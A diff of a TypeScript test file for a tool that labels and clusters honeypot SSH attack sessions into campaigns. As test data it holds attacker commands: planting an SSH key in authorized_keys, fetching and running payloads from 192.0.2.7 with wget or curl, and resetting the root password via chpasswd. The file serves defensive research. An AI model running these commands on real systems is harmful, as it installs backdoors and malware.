@@ -1,21 +1,20 @@
 /**
- * The evaluation side: clustering metrics (against brute-force pair enumeration and textbook
- * ARI values), calibration, labels and Result parsing, evaluate(), the artefact-signature
- * labeller (rules and independence from the engine), the TF-IDF + DBSCAN baseline (against a
- * naive dense implementation), and, when ../shared/corpora is present, the labeller and the
- * eval path on real corpora.
+ * The evaluation side: clustering metrics of the shipped `eval` command (against brute-force
+ * pair enumeration and textbook ARI values), calibration, labels and Result parsing,
+ * evaluate(); and the research code in eval/: the signature labeller (exact matching, variant
+ * order, conflicts), its metrics (pairwise, per-family recovery, merged-with-unlabelled), the
+ * MinHash-LSH and TF-IDF + DBSCAN peers (the latter against a naive dense implementation),
+ * and, when ../shared/corpora is present, the labeller and a peer on real corpora.
  */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test"
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
 import { tmpdir } from "node:os"
 import { join, resolve } from "node:path"
 import { Prng } from "../../src/analytics/Prng.ts"
-import type { AttackSession } from "../../src/domain/AttackSession.ts"
 import type { Campaign } from "../../src/domain/Campaign.ts"
 import type { Result } from "../../src/domain/Result.ts"
 import { calibration } from "../../src/evaluation/calibration.ts"
 import { type ClusterKey, pairCounts, pairwiseScores } from "../../src/evaluation/clusteringMetrics.ts"
-import { evaluateCorpus, labelCorpus } from "../../src/evaluation/corpusEvaluation.ts"
 import { formatEvalReport, runEval } from "../../src/evaluation/evalCommand.ts"
 import { evaluate, evaluatePrediction, isTrulyCoordinated, predictionFromKeys } from "../../src/evaluation/evaluate.ts"
 import {
@@ -26,17 +25,12 @@ import {
   parseResult,
   predictionFromResult
 } from "../../src/evaluation/labels.ts"
-import { derivesFromUsername, isPopularCredential } from "../../src/evaluation/popularCredentials.ts"
-import { auditFamilies } from "../../src/evaluation/sharedArtefacts.ts"
-import {
-  busyboxTagsIn,
-  markerFilesIn,
-  plantedKeys,
-  rareCredentials,
-  signatureLabels,
-  sshKeysIn
-} from "../../src/evaluation/signatureLabels.ts"
-import { dbscan, NOISE, tfidfDbscan, tokenize } from "../../src/evaluation/tfidfDbscan.ts"
+import { gzipSync } from "node:zlib"
+import { formatLabelsTsv as formatSignatureLabels, labelFile, labelSessions, loadSignatures, parseCowrie, readLabelsTsv } from "../../eval/labeller/labelCorpus.ts"
+import { evaluatePrediction as evalEvaluate, pairwise as evalPairwise, predictionFromCampaigns } from "../../eval/metrics/metrics.ts"
+import { minhash, minhashLsh, optimalBands } from "../../eval/peers/minhash-lsh.ts"
+import { readCommands } from "../../eval/peers/readCommands.ts"
+import { dbscan, NOISE, tfidfDbscan, tokenize } from "../../eval/peers/tfidfDbscan.ts"
 
 // ---------------------------------------------------------------------------------------
 // helpers
@@ -68,48 +62,25 @@ const bruteForce = (truth: ReadonlyArray<ClusterKey>, pred: ReadonlyArray<Cluste
 const randomLabeling = (rng: Prng, n: number, k: number, nullShare: number): Array<ClusterKey> =>
   Array.from({ length: n }, () => (rng.next() < nullShare ? null : `k${rng.int(k)}`))
 
-const session = (id: string, over: Partial<AttackSession> = {}): AttackSession => ({
-  id,
-  sensor: null,
-  protocol: "ssh",
-  src_ip: null,
-  src_port: null,
-  dst_ip: null,
-  dst_port: null,
-  start: "2024-01-01T00:00:00.000Z",
-  end: "2024-01-01T00:00:01.000Z",
-  client_version: null,
-  hassh: null,
-  credentials: [],
-  commands: [],
-  downloads: [],
-  uploads: [],
-  ssh_keys_added: [],
-  tcpip_forwards: [],
-  http_requests: [],
-  user_agent: null,
-  event_count: 1,
-  ...over
-})
-
-const cred = (username: string, password: string) => ({ username, password, success: false })
-
-const campaign = (id: string, level: Campaign["level"], sessions: Array<string>, confidence: number, parent: string | null = null): Campaign => ({
-  id,
-  parent_id: parent,
-  level,
-  name: id,
-  sessions,
-  source_ips: [],
-  first_seen: "2024-01-01T00:00:00.000Z",
-  last_seen: "2024-01-01T00:00:00.000Z",
-  confidence,
-  confidence_interval: [confidence, confidence],
-  assessment: "coincidental",
-  evidence: {},
-  indicators: [],
-  ttps: []
-})
+const campaign = (id: string, level: Campaign["level"], sessions: Array<string>, confidence: number, parent: string | null = null): Campaign =>
+  ({
+    id,
+    parent_id: parent,
+    level,
+    name: id,
+    sessions,
+    source_ips: [],
+    first_seen: "2024-01-01T00:00:00.000Z",
+    last_seen: "2024-01-01T00:00:00.000Z",
+    confidence,
+    confidence_interval: [confidence, confidence],
+    assessment: "coincidental",
+    evidence: {},
+    indicators: [],
+    ttps: [],
+    // Result v1 grows `formed_by`; an empty list satisfies both the old and the new schema.
+    formed_by: []
+  }) as Campaign
 
 const resultWith = (campaigns: Array<Campaign>): Result => ({
   schema: "dshield-coordination/result@1",
@@ -126,11 +97,6 @@ const resultWith = (campaigns: Array<Campaign>): Result => ({
   campaigns,
   unclustered_sessions: 0
 })
-
-const KEY_A = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7exampleexampleexampleexampleexampleexampleEXAMPLE0123456789+/abc"
-const KEY_B = "AAAAC3NzaC1lZDI1NTE5AAAAIOtherOtherOtherOtherOtherOtherOtherOtherOther0123"
-const plant = (key: string, comment: string): string =>
-  `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${key} ${comment}">>.ssh/authorized_keys && chmod -R go= ~/.ssh`
 
 // ---------------------------------------------------------------------------------------
 
@@ -437,153 +403,6 @@ describe("evaluate", () => {
   })
 })
 
-describe("signature labeller: extraction rules", () => {
-  test("SSH keys: type and body, comment ignored, only with authorized_keys", () => {
-    expect(sshKeysIn(plant(KEY_A, "mdrfckr"))).toEqual([`ssh-rsa ${KEY_A}`])
-    expect(plantedKeys([plant(KEY_A, "mdrfckr")])).toEqual(plantedKeys([plant(KEY_A, "user@host")]))
-    expect(plantedKeys([`echo "ssh-rsa ${KEY_A} x" > /tmp/k`])).toEqual([])
-  })
-
-  test("marker files: fixed hidden files and dropper names, not generic, standard or random ones", () => {
-    expect(markerFilesIn("echo -e '\\x47\\x72\\x6f\\x70/tmp' > /tmp/.nippon;   cat /tmp/.nippon;   rm -f /tmp/.nippon")).toEqual([".nippon"])
-    expect(markerFilesIn("cd /tmp || cd /var/run; wget http://192.0.2.7/beetles.sh; chmod 777 beetles.sh; sh beetles.sh")).toEqual(["beetles.sh"])
-    expect(markerFilesIn("cd /tmp; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf x86_64")).toEqual([])
-    expect(markerFilesIn("curl http://192.0.2.7:60142/linux -o /tmp/ZN5qL4gOwW; chmod +x /tmp/ZN5qL4gOwW")).toEqual([])
-    expect(markerFilesIn("nohup $SHELL -c \"curl http://192.0.2.7/sora.x86 -o /tmp/a\"")).toEqual(["sora.<arch>"])
-    expect(markerFilesIn("wget http://192.0.2.7/sora.arm7")).toEqual(["sora.<arch>"])
-    expect(markerFilesIn("/gweerwe323f")).toEqual(["gweerwe323f"])
-    expect(markerFilesIn("./oinasf; dd if=/proc/self/exe bs=22 count=1")).toEqual(["oinasf"])
-    expect(markerFilesIn("echo > /etc/hosts.deny; echo 1 > /var/log/wtmp; cat /proc/cpuinfo; /bin/uname -a")).toEqual([])
-    expect(markerFilesIn("nohup /root/577 &gt; /dev/null 2&gt;&amp;1 &amp;")).toEqual([])
-    expect(markerFilesIn("uname -a; ls -la; cd ~; chattr -ia .ssh")).toEqual([])
-  })
-
-  test("busybox tags and echo -e markers", () => {
-    expect(busyboxTagsIn("enable; system; shell; sh; /bin/busybox ECCHI")).toEqual(["busybox ECCHI"])
-    expect(busyboxTagsIn("/bin/busybox wget; /bin/busybox cat /proc/cpuinfo")).toEqual([])
-    expect(busyboxTagsIn("echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'")).toEqual(["echo gayfgt"])
-    expect(busyboxTagsIn("/bin/busybox echo -ne '\\x45\\x4c\\x46'")).toEqual([]) // ELF: generic and short
-    expect(busyboxTagsIn("echo -en \"\\\\x31\\\\x33\\\\x33\\\\x37\"")).toEqual(["echo 1337"])
-  })
-
-  test("popular credentials: lists, derivations, placeholders", () => {
-    expect(isPopularCredential("root", "admin")).toBe(true)
-    expect(isPopularCredential("pi", "raspberry")).toBe(true)
-    expect(isPopularCredential("deploy", "123456")).toBe(true) // popular password under any user
-    expect(isPopularCredential("oracle", "oracle123")).toBe(true)
-    expect(isPopularCredential("admin", "<Any pass>")).toBe(true)
-    expect(isPopularCredential("root", "abc")).toBe(true) // too short
-    expect(isPopularCredential("root", "broadguam1")).toBe(false)
-    expect(derivesFromUsername("simon", "nomis")).toBe(true)
-    expect(derivesFromUsername("simon", "s1m0n-x")).toBe(false)
-  })
-
-  test("rare credentials: 2 ≤ IPs ≤ max(3, 1% of login IPs), not popular, not a dictionary password", () => {
-    const sessions: Array<AttackSession> = []
-    let n = 0
-    const add = (ip: string, u: string, p: string) => sessions.push(session(`s${n++}`, { src_ip: ip, credentials: [cred(u, p)] }))
-    add("192.0.2.1", "root", "broadguam1")
-    add("192.0.2.2", "root", "broadguam1") // rare: 2 IPs
-    add("192.0.2.3", "root", "onlyonce99") // 1 IP
-    add("192.0.2.3", "root", "onlyonce99")
-    for (let i = 0; i < 4; i++) add(`198.51.100.${i}`, "root", "toomany777") // 4 IPs > 3
-    for (let i = 0; i < 3; i++) add(`203.0.113.${i}`, "root", "admin") // popular
-    for (const u of ["u1", "u2", "u3", "u4", "u5"]) {
-      add("192.0.2.10", u, "dictpass55")
-      add("192.0.2.11", u, "dictpass55") // one password under 5 user names
-    }
-    const r = rareCredentials(sessions)
-    expect(r.maxIps).toBe(3)
-    expect([...r.rare]).toEqual(["root\u0000broadguam1"])
-    expect(r.tooFewIps).toBe(1)
-    expect(r.tooManyIps).toBe(1)
-    expect(r.dictionaryPassword).toBe(5)
-  })
-})
-
-describe("signature labeller: labels", () => {
-  const corpus: Array<AttackSession> = [
-    // Key A from two IPs (comments differ), one of them also tries a rare credential.
-    session("k1", { src_ip: "192.0.2.1", commands: [plant(KEY_A, "mdrfckr")], credentials: [cred("root", "qa7Zebra!")] }),
-    session("k2", { src_ip: "192.0.2.2", commands: [plant(KEY_A, "other")] }),
-    // Brute force only, with the rare credential from a third IP: same family, /cred variant.
-    session("c1", { src_ip: "192.0.2.3", credentials: [cred("root", "qa7Zebra!"), cred("root", "admin")] }),
-    // A different key, planted once: a value seen once is no signature.
-    session("k3", { src_ip: "192.0.2.4", commands: [plant(KEY_B, "x")] }),
-    // Payload shared by two sessions; the empty file is shared by everyone and never counts.
-    session("p1", { src_ip: "198.51.100.1", downloads: [{ url: "http://192.0.2.9/a", sha256: "ab".repeat(32), filename: null }] }),
-    session("p2", { src_ip: "198.51.100.2", downloads: [{ url: "http://192.0.2.9/b", sha256: "AB".repeat(32), filename: null }] }),
-    session("e1", { src_ip: "198.51.100.3", downloads: [{ url: null, sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", filename: "/tmp/x" }] }),
-    session("e2", { src_ip: "198.51.100.4", downloads: [{ url: null, sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", filename: "/tmp/y" }] }),
-    // Marker from one IP twice: joined, but not coordinated (one IP).
-    session("m1", { src_ip: "203.0.113.5", commands: ["echo 1 > /var/tmp/.var03522123"] }),
-    session("m2", { src_ip: "203.0.113.5", commands: ["cat /var/tmp/.var03522123 | head -n 1", "echo 1 > /var/tmp/.var03522123"] }),
-    // Popular credentials only, from many IPs: never labelled.
-    ...Array.from({ length: 30 }, (_, i) => session(`b${i}`, { src_ip: `203.0.113.${100 + i}`, credentials: [cred("root", "admin"), cred("admin", "admin"), cred("pi", "raspberry")] }))
-  ]
-  const L = signatureLabels(corpus)
-  const fam = (id: string) => L.labels.get(id)!.family
-  const variant = (id: string) => L.labels.get(id)!.variant
-
-  test("sessions sharing a signature are joined, through any kind", () => {
-    expect(fam("k1")).not.toBeNull()
-    expect(fam("k2")).toBe(fam("k1"))
-    expect(fam("c1")).toBe(fam("k1"))
-    expect(fam("p1")).not.toBeNull()
-    expect(fam("p2")).toBe(fam("p1")) // sha256 compared case-insensitively
-    expect(fam("p1")).not.toBe(fam("k1"))
-    expect(fam("m2")).toBe(fam("m1"))
-  })
-
-  test("variants: the payload-level join; credential-only sessions form the /cred variant", () => {
-    expect(variant("k1")).toBe(variant("k2"))
-    expect(variant("c1")).toBe(`${fam("k1")}/cred`)
-    expect(variant("k1")!.startsWith(`${fam("k1")}/`)).toBe(true)
-    expect(variant("k1")).not.toBe(variant("c1"))
-  })
-
-  test("unlabelled: no signature, a value seen once, trivial payloads, popular credentials", () => {
-    expect(fam("k3")).toBeNull()
-    expect(fam("e1")).toBeNull()
-    expect(fam("e2")).toBeNull()
-    for (let i = 0; i < 30; i++) expect(fam(`b${i}`)).toBeNull()
-    expect(L.stats.labelledSessions).toBe(7)
-    expect(L.stats.familiesWithPairs).toBe(3)
-  })
-
-  test("coordinated: the family spans two or more source IPs", () => {
-    expect(L.labels.get("k1")!.coordinated).toBe(true)
-    expect(L.labels.get("m1")!.coordinated).toBe(false)
-    expect(L.labels.get("b0")!.coordinated).toBeNull()
-  })
-
-  test("the labeller imports nothing from the engine's analytics or workflow", () => {
-    const dir = resolve(import.meta.dir, "../../src/evaluation")
-    const seen = new Set<string>()
-    const visit = (file: string): void => {
-      if (seen.has(file)) return
-      seen.add(file)
-      const text = readFileSync(file, "utf8")
-      for (const m of text.matchAll(/^import[^"']*["']([^"']+)["']/gm)) {
-        const spec = m[1]!
-        expect(spec).not.toMatch(/analytics|workflow/)
-        if (spec.startsWith("./")) visit(join(dir, spec.slice(2)))
-      }
-    }
-    visit(join(dir, "signatureLabels.ts"))
-    expect(seen.size).toBeGreaterThanOrEqual(3)
-    expect(readFileSync(join(dir, "signatureLabels.ts"), "utf8")).not.toMatch(/\.ssh_keys_added/)
-  })
-
-  test("audit: families sharing only popular credentials are found", () => {
-    const byId = new Map(corpus.map((s) => [s.id, s] as const))
-    const a = auditFamilies([["b0", "b1", "b2"], ["k1", "k2"], ["e1", "k3"]], byId, L.rareCredentials.rare)
-    expect(a.families).toBe(3)
-    expect(a.popularCredentialOnly).toBe(1)
-    expect(a.nothingShared).toBe(1)
-  })
-})
-
 describe("TF-IDF + DBSCAN baseline", () => {
   test("DBSCAN on a hand example: cores, a border point seen first, noise", () => {
     // 1-D points; eps 0.95, min_samples 3. 1.7 has only 0.8 within eps (2 points with itself):
@@ -680,47 +499,260 @@ describe("TF-IDF + DBSCAN baseline", () => {
 })
 
 // ---------------------------------------------------------------------------------------
-// Real corpora (read in place; skipped when absent)
+// eval/: the signature labeller, the metrics and the MinHash-LSH peer (independent of src/)
+
+const SIGS = loadSignatures().signatures
+const sigOf = (id: string) => {
+  const s = SIGS.find((x) => x.id === id)
+  if (s === undefined) throw new Error(`no signature ${id}`)
+  return s
+}
+
+/** A hand-written cowrie log (documentation addresses, no corpus data), one JSON per line. */
+const cowrieLine = (session: string, eventid: string, extra: Record<string, unknown> = {}) =>
+  JSON.stringify({ eventid, session, src_ip: "192.0.2.1", timestamp: "2024-01-01T00:00:00.000Z", ...extra })
+
+describe("signature labeller (eval/labeller)", () => {
+  const key = sigOf("outlaw-mdrfckr-key").value
+  const sha = sigOf("outlaw-mdrfckr-authorized-keys-sha256").value
+  const marker = sigOf("var03522123-marker").value
+  const log = [
+    cowrieLine("s-key", "cowrie.session.connect"),
+    cowrieLine("s-key", "cowrie.login.success", { username: "root", password: "x9" }),
+    cowrieLine("s-key", "cowrie.command.input", { input: `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${key}">>.ssh/authorized_keys` }),
+    cowrieLine("s-lockr", "cowrie.command.input", { input: "cd ~; chattr -ia .ssh; lockr -ia .ssh" }),
+    cowrieLine("s-lockr", "cowrie.session.file_download", { shasum: sha }),
+    cowrieLine("s-sha", "cowrie.session.file_download", { shasum: sha }),
+    "not json at all",
+    "[1,2,3]",
+    cowrieLine("s-cred", "cowrie.login.failed", { username: "345gs5662d34", password: "345gs5662d34" }),
+    cowrieLine("s-pass", "cowrie.login.failed", { username: "superadmin", password: "3245gs5662d34" }),
+    // Same password with another user name than the credential signature: only `password` kinds match.
+    cowrieLine("s-near", "cowrie.login.failed", { username: "root", password: "345gs5662d34" }),
+    // Case and spacing differ from the signature: exact matching does not label it.
+    cowrieLine("s-case", "cowrie.command.input", { input: "LOCKR -ia .ssh" }),
+    // Two families in one session: a conflict, never a label.
+    cowrieLine("s-both", "cowrie.command.input", { input: "lockr -ia .ssh" }),
+    cowrieLine("s-both", "cowrie.command.input", { input: `echo "321" > ${marker}` }),
+    cowrieLine("s-none", "cowrie.login.failed", { username: "root", password: "admin" })
+  ].join("\n")
+
+  test("parses raw and gzip input alike, counting lines that are not JSON objects", () => {
+    const plain = parseCowrie(new TextEncoder().encode(log))
+    const gz = parseCowrie(gzipSync(new TextEncoder().encode(log)))
+    expect(gz.sessions.size).toBe(plain.sessions.size)
+    expect(plain.sessions.size).toBe(9)
+    expect(plain.invalidLines).toBe(2)
+    expect(plain.sessions.get("s-lockr")!.shasums).toEqual([sha])
+  })
+
+  test("exact matches label; a family's variant is its first matching signature in file order", () => {
+    const l = labelSessions(parseCowrie(new TextEncoder().encode(log)), SIGS)
+    expect(l.labels.get("s-key")).toEqual({ family: "outlaw-mdrfckr", variant: "key" })
+    expect(l.labels.get("s-lockr")).toEqual({ family: "outlaw-mdrfckr", variant: "lockr" }) // lockr listed before the sha
+    expect(l.labels.get("s-sha")).toEqual({ family: "outlaw-mdrfckr", variant: "key" })
+    expect(l.labels.get("s-cred")).toEqual({ family: "345gs5662d34-check-login", variant: "345gs5662d34" })
+    expect(l.labels.get("s-pass")).toEqual({ family: "345gs5662d34-check-login", variant: "3245gs5662d34" })
+    expect(l.labels.has("s-near")).toBe(false)
+    expect(l.labels.has("s-case")).toBe(false)
+    expect(l.labels.has("s-none")).toBe(false)
+  })
+
+  test("two families in one session: a conflict, counted, not labelled", () => {
+    const l = labelSessions(parseCowrie(new TextEncoder().encode(log)), SIGS)
+    expect(l.labels.has("s-both")).toBe(false)
+    expect(l.conflicts.get("s-both")).toEqual(["outlaw-mdrfckr", "var03522123-marker"])
+    expect(l.stats.conflicts).toEqual({ "outlaw-mdrfckr+var03522123-marker": 1 })
+    expect(l.stats.labelledSessions).toBe(5)
+    expect(l.stats.families).toEqual({ "345gs5662d34-check-login": 2, "outlaw-mdrfckr": 3 })
+    expect(l.stats.signatureHits["outlaw-mdrfckr-lockr"]).toBe(2) // s-lockr and the conflicting s-both
+  })
+
+  test("the labels TSV round-trips and is readable by the shipped `eval` command", () => {
+    const l = labelSessions(parseCowrie(new TextEncoder().encode(log)), SIGS)
+    const tsv = formatSignatureLabels(l.labels)
+    expect(readLabelsTsv(tsv)).toEqual(l.labels)
+    const parsed = parseLabelsTsv(tsv)
+    expect(parsed.sessions.size).toBe(l.labels.size)
+    expect(parsed.sessions.get("s-lockr")).toEqual({ family: "outlaw-mdrfckr", variant: "lockr", wave: null, coordinated: null })
+  })
+
+  test("the signature file is checked when loaded", () => {
+    const dir = mkdtempSync(join(tmpdir(), "dshield-sigs-"))
+    try {
+      const bad = { version: 1, description: "x", signatures: [{ ...SIGS[0]!, source: { ...SIGS[0]!.source, url: "http://example.org/a" } }] }
+      writeFileSync(join(dir, "s.json"), JSON.stringify(bad))
+      expect(() => loadSignatures(join(dir, "s.json"))).toThrow(/https/)
+      const dup = { version: 1, description: "x", signatures: [SIGS[0]!, SIGS[0]!] }
+      writeFileSync(join(dir, "d.json"), JSON.stringify(dup))
+      expect(() => loadSignatures(join(dir, "d.json"))).toThrow(/duplicate/)
+    } finally {
+      rmSync(dir, { recursive: true, force: true })
+    }
+  })
+})
+
+describe("eval metrics (eval/metrics)", () => {
+  test("pairwise scores equal brute-force pair enumeration on random labelings", () => {
+    const rng = new Prng(17, "evaluation:eval-metrics")
+    for (let round = 0; round < 100; round++) {
+      const n = 2 + rng.int(60)
+      const truth = Array.from({ length: n }, () => `t${rng.int(1 + rng.int(5))}`)
+      const pred = randomLabeling(rng, n, 1 + rng.int(6), rng.next() * 0.5)
+      const fast = evalPairwise(truth, pred)
+      const slow = bruteForce(truth, pred)
+      expect(fast.agreeingPairs).toBe(slow.a)
+      expect(fast.precision).toBeCloseTo(slow.precision, 12)
+      expect(fast.recall).toBeCloseTo(slow.recall, 12)
+      expect(fast.f1).toBeCloseTo(slow.f1, 12)
+      expect(fast.ari).toBeCloseTo(slow.ari, 9)
+    }
+  })
+
+  // Labelled: A ×10 (8 in P, 1 in Q, 1 unclustered), B ×10 (all in Q), C ×2 (unclustered).
+  // P also holds 2 unlabelled sessions and 1 conflict; Q holds no unlabelled session.
+  const labels = new Map<string, { family: string; variant: string }>()
+  for (let i = 0; i < 10; i++) labels.set(`a${i}`, { family: "A", variant: i < 5 ? "a1" : "a2" })
+  for (let i = 0; i < 10; i++) labels.set(`b${i}`, { family: "B", variant: "b" })
+  labels.set("c0", { family: "C", variant: "c" })
+  labels.set("c1", { family: "C", variant: "c" })
+  const campaigns = [
+    { id: "P", level: "family", sessions: ["a0", "a1", "a2", "a3", "a4", "a5", "a6", "a7", "u0", "u1", "x0"] },
+    { id: "P.v1", level: "variant", parent_id: "P", sessions: ["a0", "a1", "a2", "a3", "a4"] },
+    { id: "P.v1.w", level: "wave", parent_id: "P.v1", sessions: ["a0", "a1"] },
+    { id: "Q", level: "family", sessions: ["a8", ...Array.from({ length: 10 }, (_, i) => `b${i}`)] }
+  ]
+  const prediction = predictionFromCampaigns(campaigns)
+  const e = evalEvaluate(labels, new Set(["x0"]), prediction, 1000)
+
+  test("prediction: variant campaigns refine families, waves are ignored", () => {
+    expect(prediction.family.get("a0")).toBe("P")
+    expect(prediction.variant.get("a0")).toBe("P.v1")
+    expect(prediction.variant.get("a5")).toBe("P")
+    expect(prediction.family.has("a9")).toBe(false)
+    expect(prediction.familyCount).toBe(2)
+    expect(prediction.variantCount).toBe(1)
+  })
+
+  test("per-family recovery: share, purity, judged and recovered", () => {
+    const r = new Map(e.recovery.map((x) => [x.family, x]))
+    expect(r.get("A")).toMatchObject({ sessions: 10, mainPredicted: "P", share: 0.8, purity: 1, judged: true, recovered: true })
+    expect(r.get("B")).toMatchObject({ sessions: 10, mainPredicted: "Q", share: 1, judged: true, recovered: true })
+    expect(r.get("B")!.purity).toBeCloseTo(10 / 11, 12) // ≥ 0.90
+    expect(r.get("C")).toMatchObject({ sessions: 2, mainPredicted: null, share: 0.5, purity: 1, judged: false, recovered: false })
+    expect(e.judgedFamilies).toBe(2)
+    expect(e.recoveredFamilies).toBe(2)
+    // One more A session in Q: A keeps share 0.8 but B's purity drops to 10/12 < 0.90.
+    const moved = predictionFromCampaigns(campaigns.map((c) => (c.id === "Q" ? { ...c, sessions: [...c.sessions, "a9"] } : c)))
+    const e2 = new Map(evalEvaluate(labels, new Set(["x0"]), moved, 1000).recovery.map((x) => [x.family, x]))
+    expect(e2.get("A")).toMatchObject({ share: 0.8, purity: 1, recovered: true })
+    expect(e2.get("B")).toMatchObject({ share: 1, recovered: false })
+    expect(e2.get("B")!.purity).toBeCloseTo(10 / 12, 12)
+    expect(e.macro.share).toBeCloseTo((0.8 + 1 + 0.5) / 3, 12)
+    expect(e.macro.judgedPurity).toBeCloseTo((1 + 10 / 11) / 2, 12)
+  })
+
+  test("merged with unlabelled: P's labelled sessions ride with 2 unlabelled ones; conflicts are not unlabelled", () => {
+    expect(e.scoredSessions).toBe(22)
+    expect(e.mergedWithUnlabelled).toBe(8)
+    expect(e.mergedWithUnlabelledShare).toBeCloseTo(8 / 22, 12)
+    expect(e.unlabelledRidingAlong).toBe(2)
+    expect(e.familiesPer1000Sessions).toBe(2)
+  })
+
+  test("family and variant pairwise scores", () => {
+    // Family truth pairs: C(10,2)·2 + 1 = 91; predicted pairs among labelled: C(8,2) + C(11,2) = 83;
+    // agreeing: C(8,2) + C(10,2) = 73.
+    expect(e.familyScores).toMatchObject({ truePairs: 91, predictedPairs: 83, agreeingPairs: 73 })
+    expect(e.familyScores.precision).toBeCloseTo(73 / 83, 12)
+    expect(e.familyScores.recall).toBeCloseTo(73 / 91, 12)
+    // Variant truth: a1 ×5, a2 ×5, b ×10, c ×2 → 10 + 10 + 45 + 1 = 66; predicted: P.v1 ×5, P ×3, Q ×11 → 10 + 3 + 55 = 68;
+    // agreeing: a1∩P.v1 10 + a2∩P 3 + b∩Q 45 = 58.
+    expect(e.variantScores).toMatchObject({ truePairs: 66, predictedPairs: 68, agreeingPairs: 58 })
+  })
+})
+
+describe("MinHash-LSH peer (eval/peers/minhash-lsh.ts)", () => {
+  test("LSH bands for Jaccard 0.55 with 128 permutations", () => {
+    const { bands, rows } = optimalBands(0.55, 128)
+    expect(bands * rows).toBeLessThanOrEqual(128)
+    // The collision probability crosses one half near the threshold.
+    const p = (s: number) => 1 - (1 - s ** rows) ** bands
+    expect(p(0.4)).toBeLessThan(0.5)
+    expect(p(0.7)).toBeGreaterThan(0.5)
+  })
+
+  test("identical and near-identical command sessions cluster; unrelated ones and command-less ones do not", () => {
+    const base = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "crontab -l", "w", "top", "which ls", "ls -lh $(which ls)"]
+    const sessions = [
+      { id: "a", commands: base },
+      { id: "b", commands: base },
+      { id: "c", commands: [...base, "echo 'root:Xq9vB2'|chpasswd|bash"] },
+      { id: "d", commands: ["wget http://192.0.2.7/x86; chmod 777 x86; ./x86 scan"] },
+      { id: "e", commands: ["enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ABCDE"] },
+      { id: "f", commands: [] }
+    ]
+    const r = minhashLsh(sessions)
+    expect(r.keys.get("a")).not.toBeNull()
+    expect(r.keys.get("b")).toBe(r.keys.get("a")!)
+    expect(r.keys.get("c")).toBe(r.keys.get("a")!)
+    expect(r.keys.get("d")).not.toBe(r.keys.get("a")!)
+    expect(r.keys.get("e")).not.toBe(r.keys.get("a")!)
+    expect(r.keys.get("e")).not.toBe(r.keys.get("d")!)
+    expect(r.keys.get("f")).toBeNull()
+    expect(r.withCommands).toBe(5)
+    // Deterministic: the same input gives the same keys.
+    expect(minhashLsh(sessions).keys).toEqual(r.keys)
+  })
+
+  test("MinHash estimates Jaccard similarity", () => {
+    const tokens = (from: number, to: number) => new Set(Array.from({ length: to - from }, (_, i) => `t${from + i}`))
+    const a = minhash(tokens(0, 200))!
+    const b = minhash(tokens(100, 300))! // Jaccard 100/300
+    let same = 0
+    for (let i = 0; i < a.length; i++) if (a[i] === b[i]) same++
+    expect(Math.abs(same / a.length - 1 / 3)).toBeLessThan(0.12)
+    expect(minhash(new Set())).toBeNull()
+  })
+})
+
+// ---------------------------------------------------------------------------------------
+// Real corpora (read in place; skipped when absent). Nothing from them is stored.
 
 const CORPORA = resolve(import.meta.dir, "../../../shared/corpora")
 const haveCorpora = existsSync(join(CORPORA, "radec73-2024-04.cowrie.json.gz")) && existsSync(join(CORPORA, "alvarogar-2022-07.cowrie.json.gz"))
 if (!haveCorpora) console.warn(`[evaluation] ${CORPORA} is missing: the corpus tests are SKIPPED.`)
 
 describe.skipIf(!haveCorpora)("signature labels on the public corpora", () => {
-  test("radec73: every session planting the mdrfckr key is in one family; no family without a signature", async () => {
-    const l = await labelCorpus(join(CORPORA, "radec73-2024-04.cowrie.json.gz"))
-    const keyPrefix = "AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcw"
-    const planters = l.sessions.filter((s) => s.commands.some((c) => c.includes(keyPrefix) && c.includes("authorized_keys")))
+  test("radec73: every session planting the cited mdrfckr key is labelled outlaw-mdrfckr or a reported conflict", () => {
+    const file = join(CORPORA, "radec73-2024-04.cowrie.json.gz")
+    const log = parseCowrie(readFileSync(file))
+    const key = sigOf("outlaw-mdrfckr-key").value
+    const planters = [...log.sessions].filter(([, s]) => s.commands.some((c) => c.includes(key))).map(([id]) => id)
     expect(planters.length).toBeGreaterThan(100)
-    const families = new Set(planters.map((s) => l.labels.sessions.get(s.id)!.family))
-    expect(families.size).toBe(1)
-    expect([...families][0]).not.toBeNull()
-    // Every label family has two or more sessions.
-    const sizes = new Map<string, number>()
-    for (const label of l.labels.sessions.values()) if (label.family !== null) sizes.set(label.family, (sizes.get(label.family) ?? 0) + 1)
-    expect(Math.min(...sizes.values())).toBeGreaterThanOrEqual(2)
-    expect(sizes.size).toBe(l.stats.familiesWithPairs)
-    // Sessions that only tried popular credentials and ran nothing stay unlabelled.
-    const popularOnly = l.sessions.filter((s) =>
-      s.commands.length === 0 && s.downloads.length === 0 && s.uploads.length === 0 && s.credentials.length > 0 &&
-      s.credentials.every((c) => isPopularCredential(c.username, c.password))
-    )
-    expect(popularOnly.length).toBeGreaterThan(100)
-    for (const s of popularOnly) expect(l.labels.sessions.get(s.id)!.family).toBeNull()
+    const l = labelSessions(log, SIGS)
+    for (const id of planters) {
+      if (l.conflicts.has(id)) expect(l.conflicts.get(id)).toContain("outlaw-mdrfckr")
+      else expect(l.labels.get(id)?.family).toBe("outlaw-mdrfckr")
+    }
+    // Sessions that only tried a dictionary credential and ran nothing are never labelled.
+    const rootAdminOnly = [...log.sessions].filter(([, s]) => s.commands.length === 0 && s.credentials.length > 0 && s.credentials.every(([u, p]) => u === "root" && p === "admin"))
+    expect(rootAdminOnly.length).toBeGreaterThan(0)
+    for (const [id] of rootAdminOnly) expect(l.labels.has(id)).toBe(false)
   })
 
-  test("alvarogar: the written labels and result score the same through runEval", async () => {
-    const dir = mkdtempSync(join(tmpdir(), "dshield-eval-corpus-"))
-    try {
